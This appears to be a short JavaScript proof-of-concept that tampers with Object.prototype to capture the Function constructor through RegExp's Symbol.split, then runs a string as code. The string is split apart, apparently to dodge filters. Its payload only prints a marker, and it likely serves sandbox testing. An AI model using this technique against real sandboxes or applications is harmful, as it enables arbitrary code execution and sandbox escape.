// a getter on Object.prototype sees Function as its `this`
let F;
Object['prototype'].__defineGetter__(Symbol.species, function () { F ??= this });
try { RegExp.prototype[Symbol.split].call(() => {}, 'a') } catch {}
F('console.log("REA"+"CHED")')();
